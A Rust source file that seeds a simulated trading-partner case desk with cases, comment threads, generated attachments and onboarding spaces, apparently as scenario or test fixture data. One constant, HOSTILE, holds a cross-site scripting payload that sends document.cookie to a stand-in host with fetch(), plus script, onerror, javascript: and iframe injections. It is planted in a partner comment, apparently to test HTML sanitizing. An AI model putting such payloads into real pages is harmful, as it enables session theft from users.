//! The history the scenario leads up to: cases, threads, files, spaces.

use bytes::Bytes;
use domain::{
    Millis,
    canonical::sha256_hex,
    time::{DAY, HOUR, MINUTE},
};
use serde_json::{Value, json};

use super::{
    files,
    model::{Attachment, Case, Comment, Item, PartnerName, Reference, Space, State},
};
use crate::{
    Scenario,
    scenario::{CaseSpec, Rng},
};

const FROM_PARTNER: &[&str] = &[
    "We loaded the full quantity at our end. Can you share the dock sheet before we issue a credit?",
    "Our warehouse is checking the count. Expect an answer before noon.",
    "<p>Please find our answer below:</p><ul><li>pallets 1 to 4 complete</li><li>pallet 5 <b>missing</b></li></ul>",
    "The carrier confirms a delay at the terminal. New arrival is two days later.",
    "The price list changed on the first of the month. We attached the new one.",
    "Is there any news on this? Our month ends on Friday.",
    "<p>Regarding your message: the certificate was renewed, thumbprint <code>9A:41:0C</code>.</p>",
    "We accept the quantity you counted and will send a corrected invoice.",
    "Could you confirm which purchase order this belongs to?",
];
const FROM_US: &[&str] = &[
    "Counting again, answer by this afternoon.",
    "<p>Thank you. We received <b>fewer cartons</b> than your ship notice lists; please check your load sheet.</p>",
    "Please send the corrected document, the original was rejected by our validation.",
    "We have set the invoice aside until the difference is settled.",
    "Noted. Settlement will come back to you with a debit advice.",
    "The new date is fine for us.",
];
const INTERNAL: &[&str] = &[
    "Warehouse 4: dock count done, seal intact.",
    "Settlement wants this in one debit, not line by line.",
    "Same pattern as last month, see the earlier case.",
    "Tier A, keep the four hours.",
    "Compliance asked to be copied if the amount goes above ten thousand.",
];
const HOSTILE: &str = r#"<p onmouseover="fetch('https://evil.invalid/?c='+document.cookie)">Hello</p><script>alert('owned')</script><img src=x onerror="alert(1)"><a href="javascript:alert(2)">open the recall form</a><iframe src="https://evil.invalid"></iframe><b>Lot L4410 is still on our shelves.</b>"#;

impl State {
    /// The state the scenario leads up to.
    #[must_use]
    pub fn seed(scenario: &Scenario, epoch: Millis) -> Self {
        let mut state = Self::default();
        let mut history: Vec<(Millis, &'static str, String, Value)> = Vec::new();
        for spec in &scenario.cases {
            let mut rng = scenario.rng(&format!("community/{}", spec.id));
            let case = case(scenario, spec, &mut rng);
            threads(&mut state, scenario, spec, &mut rng, &mut history);
            attachments(&mut state, scenario, spec, &mut rng, &mut history);
            spaces(&mut state, scenario, spec, epoch, &mut history);
            state.cases.insert(case.id.clone(), case);
        }
        state.settle(scenario, epoch, &mut history);
        let highest = scenario
            .cases
            .iter()
            .filter_map(|c| c.id.parse::<u64>().ok())
            .max();
        state.numbers.insert("case", highest.unwrap_or(48_000));
        state
            .comments
            .sort_by(|a, b| (a.created_at, &a.id).cmp(&(b.created_at, &b.id)));
        state
            .attachments
            .sort_by(|a, b| (a.created_at, &a.id).cmp(&(b.created_at, &b.id)));
        history.sort_by(|a, b| (a.0, &a.2, a.1).cmp(&(b.0, &b.2, b.1)));
        for (at, kind, subject, data) in history {
            state.event(kind, &subject, at, data);
        }
        state
    }
}

/// The name a partner goes by on a case.
pub(super) fn partner_name(scenario: &Scenario, id: &str) -> Option<PartnerName> {
    scenario.partner(id).map(|p| PartnerName {
        id: p.id.clone(),
        name: p.name.clone(),
        short_name: p.short_name.clone(),
        buid: p.buid.clone(),
    })
}

fn case(scenario: &Scenario, spec: &CaseSpec, rng: &mut Rng) -> Case {
    let mut external_refs = Vec::new();
    let mut external = |system: &str, id: String| {
        external_refs.push(json!({"system": system, "id": id, "url": null}));
    };
    if let Some(id) = spec.ticket_id {
        external("tracker", id.to_string());
    }
    if let Some(id) = &spec.process_id {
        external("workflow", id.clone());
    }
    if let Some(id) = spec.workspace_id {
        external("workspaces", id.to_string());
    }
    for id in &spec.notice_ids {
        external("exstream", id.clone());
    }
    Case {
        id: spec.id.clone(),
        number: spec.number.clone(),
        subject: spec.subject.clone(),
        case_type: spec.case_type.clone(),
        subtype: spec.subtype.clone(),
        status: spec.status.clone(),
        priority: spec.priority.clone(),
        owner: spec.owner.clone(),
        team: Some(spec.team.clone()),
        partner: partner_name(scenario, &spec.partner_id).unwrap_or_default(),
        business_refs: spec
            .business_refs
            .iter()
            .map(|(kind, value)| Reference {
                kind: kind.clone(),
                value: value.clone(),
            })
            .collect(),
        opened_at: spec.opened_at,
        updated_at: spec.updated_at,
        due_at: spec.due_at.map(Millis::rfc3339),
        stage: spec.stage.clone(),
        communication_status: spec.communication_status.clone(),
        loop_state: spec.loop_state.clone(),
        version: 1 + rng.between(0, 5),
        external_refs,
    }
}

type History = Vec<(Millis, &'static str, String, Value)>;

fn threads(
    state: &mut State,
    scenario: &Scenario,
    spec: &CaseSpec,
    rng: &mut Rng,
    history: &mut History,
) {
    let partner = scenario.partner(&spec.partner_id);
    let contact = partner
        .and_then(|p| p.contacts.first())
        .map_or("Partner", |c| c.name.as_str());
    let owner = spec.owner.as_deref().and_then(|o| scenario.person(o));
    let owner = owner.map_or("Partner Desk", |p| p.full_name.as_str());
    let count = rng.between(2, 8);
    let span = spec.updated_at.since(spec.opened_at).max(count * MINUTE);
    let recall = spec.id == "48140" || (scenario.cases.len() < 100 && spec.id == "48213");
    for index in 0..count {
        let at = spec.opened_at.plus(span * (index + 1) / (count + 1));
        let (side, visibility, author, texts) = match rng.below(10) {
            _ if index == 0 => ("partner", "partner", contact, FROM_PARTNER),
            0..=4 => ("partner", "partner", contact, FROM_PARTNER),
            5..=7 => ("us", "partner", owner, FROM_US),
            _ => ("us", "internal", owner, INTERNAL),
        };
        let mut body = rng.pick(texts).copied().unwrap_or_default();
        if recall && index == 1 {
            body = HOSTILE;
        }
        let comment = Comment {
            id: state.next_id("cm"),
            case_id: spec.id.clone(),
            author: author.to_owned(),
            side: side.to_owned(),
            visibility: visibility.to_owned(),
            body: body.to_owned(),
            created_at: at,
            key: None,
        };
        history.push((
            at,
            "comment.created",
            format!("case/{}", spec.id),
            json!(comment),
        ));
        state.comments.push(comment);
    }
}

fn attachments(
    state: &mut State,
    scenario: &Scenario,
    spec: &CaseSpec,
    rng: &mut Rng,
    history: &mut History,
) {
    if spec.id != "48213" && !rng.chance(35) {
        return;
    }
    let order = spec.order.as_deref().and_then(|n| scenario.order(n));
    let number = order.map_or(spec.number.as_str(), |o| o.number.as_str());
    let count = if spec.id == "48213" {
        3
    } else {
        rng.between(1, 2)
    };
    for index in 0..count {
        let (name, media_type, bytes) = match (index + rng.between(0, 2)) % 3 {
            0 => {
                let lines: Vec<String> = order.map_or_else(Vec::new, |o| {
                    let line = |l: &crate::scenario::OrderLine| {
                        format!(
                            "{:>3}  {:<10} {:<34} {:>6} {}",
                            l.line, l.product, l.description, l.shipped, l.unit
                        )
                    };
                    o.lines.iter().map(line).collect()
                });
                (
                    format!("dock-count-{number}.pdf"),
                    "application/pdf",
                    files::pdf(&format!("Dock count {number}"), &lines),
                )
            }
            1 => {
                let mut rows = vec![vec![
                    "line".to_owned(),
                    "product".into(),
                    "ordered".into(),
                    "counted".into(),
                ]];
                for line in order.iter().flat_map(|o| &o.lines) {
                    rows.push(vec![
                        line.line.to_string(),
                        line.product.clone(),
                        line.quantity.to_string(),
                        line.shipped.to_string(),
                    ]);
                }
                (format!("count-{number}.csv"), "text/csv", files::csv(&rows))
            }
            _ => (
                format!("pallet-{number}.png"),
                "image/png",
                files::png(&spec.id),
            ),
        };
        let sha256 = sha256_hex(&bytes);
        let of_case = |a: &Attachment| a.case_id == spec.id && a.sha256 == sha256;
        if state.attachments.iter().any(of_case) {
            continue;
        }
        let visibility = if rng.chance(60) {
            "partner"
        } else {
            "internal"
        };
        let at = spec
            .opened_at
            .plus(spec.updated_at.since(spec.opened_at) / 2 + index * MINUTE);
        let attachment = Attachment {
            id: state.next_id("at"),
            case_id: spec.id.clone(),
            name,
            media_type: media_type.to_owned(),
            size: bytes.len(),
            sha256: sha256.clone(),
            visibility: visibility.to_owned(),
            author: "Mara Tindal".to_owned(),
            created_at: at,
            key: None,
        };
        state.blobs.insert(sha256, Bytes::from(bytes));
        history.push((
            at,
            "attachment.created",
            format!("case/{}", spec.id),
            json!(attachment),
        ));
        state.attachments.push(attachment);
    }
}

fn spaces(
    state: &mut State,
    scenario: &Scenario,
    spec: &CaseSpec,
    epoch: Millis,
    history: &mut History,
) {
    let (purpose, items): (&str, &[(&str, &str)]) = match spec.case_type.as_str() {
        "onboarding" => (
            "onboarding",
            &[
                ("milestone", "Kick-off"),
                ("required_document", "AS2 certificate"),
                ("required_document", "Trading agreement"),
                ("task", "Exchange test order"),
                ("milestone", "Go live"),
            ],
        ),
        "certificate" => (
            "mirror",
            &[
                ("certificate", "AS2 certificate"),
                ("request", "Upload the new certificate"),
            ],
        ),
        _ if spec.id == "48213" => (
            "mirror",
            &[
                ("document", "Ship notice ASN-0048131"),
                ("document", "Dock count"),
                ("request", "Load sheet"),
            ],
        ),
        _ => return,
    };
    let space = Space {
        id: state.next_id("sp"),
        purpose: purpose.to_owned(),
        case_id: Some(spec.id.clone()),
        partner_id: Some(spec.partner_id.clone()),
        title: spec.subject.clone(),
        subject: scenario
            .partner(&spec.partner_id)
            .map_or_else(String::new, |p| p.name.clone()),
        state: if spec.is_open() { "open" } else { "closed" }.to_owned(),
        created_by: "ada.admin".to_owned(),
        created_at: spec.opened_at,
        updated_at: spec.opened_at,
        key: None,
    };
    history.push((
        spec.opened_at,
        "space.created",
        format!("space/{}", space.id),
        json!(space),
    ));
    for (index, (kind, title)) in (0_i64..).zip(items) {
        let at = spec.opened_at.plus((index + 1) * MINUTE);
        let item = Item {
            id: state.next_id("it"),
            space_id: space.id.clone(),
            kind: (*kind).to_owned(),
            title: (*title).to_owned(),
            state: if spec.is_open() && index > 0 {
                "open"
            } else {
                "done"
            }
            .to_owned(),
            due_at: Some(epoch.plus((index - 1) * 3 * DAY + 4 * HOUR).rfc3339()),
            author: "ada.admin".to_owned(),
            data: certificate_data(spec, kind, epoch),
            version: 1,
            created_at: at,
            updated_at: at,
            key: None,
        };
        history.push((
            at,
            "item.created",
            format!("space/{}", space.id),
            json!(item),
        ));
        state.items.push(item);
    }
    state.spaces.push(space);
}

/// When a certificate ends: in the past where the case says so, else within its last weeks.
fn certificate_data(spec: &CaseSpec, kind: &str, epoch: Millis) -> Value {
    if kind != "certificate" {
        return json!({});
    }
    let days = if spec.subtype == "expired" { -2 } else { 12 };
    json!({"valid_to": epoch.plus(days * DAY).rfc3339(), "thumbprint": sha256_hex(spec.id.as_bytes())})
}
